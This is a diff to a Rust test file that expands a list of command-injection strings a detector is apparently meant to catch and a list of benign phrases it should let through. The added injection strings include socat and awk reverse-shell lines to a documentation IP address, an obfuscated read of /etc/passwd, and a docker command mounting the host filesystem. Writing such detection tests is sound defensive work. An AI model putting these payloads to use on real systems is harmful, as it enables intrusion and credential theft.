@@ -166,6 +166,25 @@ static BEHIND_A_VALUE: &[&str] = &[
     "test;cat /etc/passwd|base64",
     "hello world; cat /etc/passwd",
     "nothing to see && whoami",
+    "x;. /tmp/x",
+    "x;xargs id",
+    "|tee x",
+    ";who",
+    ";date",
+    "&ver",
+    "x;rpm -qa",
+    "a]&&id&&[a",
+    "x;X=$'cat\\x20/etc/passwd'&&$X",
+    "| mount",
+    "&set&",
+    "';exit(md5('x'));//",
+    "x;socat tcp-connect:203.0.113.9:1 exec:sh",
+    "x;socat - tcp:203.0.113.9:1",
+    "x;docker ps",
+    "x;docker run -v /:/mnt alpine sh",
+    "x;java -jar x.jar",
+    "x;waitfor /t 5 pause",
+    "x;awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/1\"}'",
 ];
 
 #[test]
@@ -319,6 +338,17 @@ static TALK: &[&str] = &[
     "rm is short for remove",
     "kill the lights; then sleep",
     "date | time | place",
+    "golf | tee time",
+    "first;last",
+    "date;time;top",
+    "from date; to date",
+    "who is the top; date?",
+    "set | mount | who",
+    "who; last",
+    "pick a docker; ps can wait",
+    "query q($id: ID!) { id name author { id } }",
+    "docker compose up && docker ps",
+    "java; kotlin",
 ];
 
 #[test]
